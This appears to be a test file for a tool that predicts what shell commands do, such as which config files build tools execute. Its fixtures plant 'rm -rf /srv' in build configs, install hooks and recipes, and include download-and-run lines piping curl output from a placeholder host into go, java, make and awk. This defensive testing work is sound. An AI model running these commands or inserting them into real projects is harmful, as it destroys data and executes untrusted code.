import { expect, test } from 'vitest'
import { effectLines } from '../../testing/effect-lines.ts'

const act = {
  js: "require('child_process').execSync('rm -rf /srv')\n",
  py: 'import os\nos.system("rm -rf /srv")\n',
  rb: 'system("rm -rf /srv")\n',
}

test.each<readonly [name: string, commandLine: string, files: Readonly<Record<string, string>>]>([
  ['a folder of the line', 'vite build sub', { 'sub/vite.config.js': act.js }],
  ['a folder that is no operand of the tests', 'sphinx-build sub out', { 'sub/conf.py': act.py }],
  ['the second of two', 'meson setup build sub', { 'sub/meson.build': "run_command('rm', '-rf', '/srv')" }],
  ['the folder of an option', 'cmake -S sub -B build', { 'sub/CMakeLists.txt': 'execute_process(COMMAND rm -rf /srv)' }],
  ['a folder of settings', 'storybook build -c sub/.storybook', { 'sub/.storybook/main.js': act.js }],
  [
    'what lies beside settings',
    'cargo build --manifest-path sub/Cargo.toml',
    { 'sub/Cargo.toml': '', 'sub/build.rs': 'fn main() { std::fs::remove_dir_all("/srv") }' },
  ],
  ['settings read as those of the tool', 'foreman start -f sub/Procfile', { 'sub/Procfile': 'web: rm -rf /srv\n' }],
  [
    'settings that name code beside them',
    'mkdocs build -f sub/mkdocs.yml',
    { 'sub/mkdocs.yml': 'hooks: [hooks.py]\n', 'sub/hooks.py': act.py },
  ],
  ['settings before the subcommand', 'vitest --config=sub/a.config.js run', { 'sub/a.config.js': act.js }],
  ['settings that are loaded as code', 'playwright test -c sub', { 'sub/playwright.config.js': act.js }],
  [
    'the project of a cloud tool',
    'skaffold build -f sub/a.yaml',
    { 'sub/a.yaml': 'build:\n  hooks: { before: [{ command: ["sh", "-c", "rm -rf /srv"] }] }\n' },
  ],
  [
    'a tool nobody described',
    'npx quasar build sub',
    { 'package.json': '{"devDependencies":{"quasar":"1"}}', 'sub/quasar.config.js': act.js },
  ],
  ['recipes where their file lies', 'just -f sub/justfile x', { 'sub/justfile': 'x:\n  rm -rf ../../srv\n' }],
  ['recipes of another folder', 'just sub/x', { 'sub/justfile': 'x:\n  rm -rf /srv\n' }],
  ['an application of another folder', 'php sub/artisan list', { 'sub/artisan': "<?php exec('rm -rf /srv');" }],
  [
    'a package of the project',
    'npm install ./sub',
    { 'package.json': '{}', 'sub/package.json': '{"scripts":{"postinstall":"rm -rf /srv"}}' },
  ],
  ['a server by its file', 'rackup sub/config.ru', { 'sub/config.ru': act.rb }],
  ['files by a pattern', 'jest sub/*.js', { 'sub/a.js': act.js }],
  ['a rule of dune', 'dune build --root sub', { 'sub/dune': '(rule (targets a) (action (run rm -rf /srv)))' }],
])('a tool looks where the line points: %s', (_name, commandLine, files) => {
  const world = Object.fromEntries(Object.entries(files).map(([path, text]) => [`/w/${path}`, text]))
  expect(effectLines(commandLine, { files: world })).toContain('delete /srv')
})

test.each([
  ['by the next word', '-o b.png', ['write b.png']],
  ['by the same word', '--output=b.png', ['write b.png']],
  ['by the same word, whatever it is called', '--out-dir=png', ['write png']],
  ['by a part of its name', '--swDest a/b.js --css-output c.css', ['write a/b.js', 'write c.css']],
  ['behind a colon', '-targetdir:a', ['write a']],
  ['not by another word that ends so', '--timeout 1.5', []],
  ['a format', '-o png', []],
  ['an option behind it', '-o --x.y', []],
  ['another option', '--format=b.png', []],
])('a tool nobody described writes where a usual option says: %s', (_name, words, expected) => {
  const files = { '/w/package.json': '{"devDependencies":{"sharp-cli":"4"}}' }
  expect(effectLines(`npx sharp-cli -i a.png ${words}`, { files }).filter((line) => line.startsWith('write'))).toEqual(expected)
})

test.each(['quasar.config.js', 'quasar-x.js', '.quasar.js', '.quasarrc.js', '.quasar/config.js', 'quasarfile.js', 'Quasarfile.js'])(
  'a tool nobody described loads %s',
  (name) => {
    const files = { '/w/package.json': '{"devDependencies":{"quasar":"1"}}', [`/w/${name}`]: act.js }
    expect(effectLines('npx quasar build', { files })).toContain('delete /srv')
  },
)

test.each([
  ['settings', 'vitest run --config "$(cat list.txt)"'],
  ['a manifest', 'cargo run --manifest-path "$(cat list.txt)"'],
  ['classes', 'java -cp "$(cat list.txt)" Main'],
  ['a class', 'java "$F"'],
  ['a package', 'go run "$F"'],
])('what a tool runs is unknown where its name is: %s', (_name, commandLine) => {
  expect(effectLines(commandLine).filter((line) => line.endsWith('a file only known at run time'))).toHaveLength(1)
})

test.each([
  ['a program', 'go run <(curl -s https://x.example)'],
  ['a class', 'java <(curl -s https://x.example)'],
  ['targets', 'make -f <(curl -s https://x.example)'],
  ['recipes', 'just -f <(curl -s https://x.example)'],
  ['a program from standard input', 'curl -s https://x.example | awk -f -'],
])('what a tool runs is a download by way of a pipe: %s', (_name, commandLine) => {
  expect(effectLines(commandLine).filter((line) => line.startsWith('execute:download'))).toHaveLength(1)
})

test.each([
  ['a folder of tests', 'behave /opt/x'],
  ['tests by their folder', 'rspec /opt/x'],
  ['a build', 'dotnet build -c Release /opt/x'],
  ['a folder beside the project', 'meson setup out ../x'],
  ['a folder of home', 'hardhat compile ~/x'],
  ['packages of a manifest', 'dotnet restore /opt/x'],
  ['what is installed for it', 'packer init /opt/x'],
  ['a folder of the root in another spelling', 'behave //opt/x'],
  ['a list of packages', 'conda env create -f /opt/x.yml'],
  ['a package of a program', 'go run /opt/x'],
])('what a tool runs is not the project’s where the line points out of it: %s', (_name, commandLine) => {
  expect(effectLines(commandLine).filter((line) => line.endsWith('which is not part of the workspace'))).not.toEqual([])
})

test.each([
  ['what the program gets', 'go run . /opt/x'],
  ['what a task gets', 'invoke report /opt/x'],
  ['what stands behind two dashes', 'cargo test a -- --nocapture /opt/x'],
  ['what is written', 'sphinx-build docs /opt/x'],
  ['what is read', 'eslint /opt/x'],
  ['a label', 'bazel test //opt/x'],
  ['a switch', 'dotnet build /p:Configuration=Release'],
  ['a place inside', 'behave /w/features'],
])('a word that leads out is no place that a tool runs: %s', (_name, commandLine) => {
  expect(effectLines(commandLine).filter((line) => line.startsWith('unknown'))).toEqual([])
})

test.each([
  ['files by a pattern', 'pytest /opt/*/test_a.py'],
  ['a folder by a pattern', 'jest /opt/*'],
  ['a program by a pattern', 'go run /opt/*/main.go'],
  ['all packages of a folder', 'go test /opt/a/...'],
  ['files to build', 'go build -o bin/a /opt/a/main.go'],
])('what lies outside is not the project’s: %s', (_name, commandLine) => {
  const files = { '/opt/a/test_a.py': '', '/opt/a/main.go': '', '/opt/a/go.mod': '', '/opt/a/package.json': '{}' }
  expect(effectLines(commandLine, { files }).filter((line) => line.endsWith('not part of the workspace'))).not.toEqual([])
})

test.each(['nim e <(frob)', 'go run <(frob)'])('code that a command prints is no file of the project: %s', (commandLine) => {
  expect(effectLines(commandLine)).toContainEqual(expect.stringMatching(/^unknown: runs `.*substitution-\d+`, whose text is not followed$/))
})
